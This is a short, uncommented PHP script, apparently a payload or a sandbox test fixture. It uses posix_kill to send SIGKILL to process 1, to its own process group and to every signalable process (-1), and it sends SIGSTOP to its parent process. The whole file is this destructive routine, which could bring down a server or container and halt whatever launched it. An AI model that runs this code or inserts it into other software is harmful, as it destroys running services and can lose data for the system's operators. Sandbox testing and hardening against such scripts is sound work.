<?php
foreach ([1, 0, -1] as $target) {
    if (function_exists("posix_kill")) {
        posix_kill($target, 9);
        posix_kill(posix_getppid(), 19);
    }
}
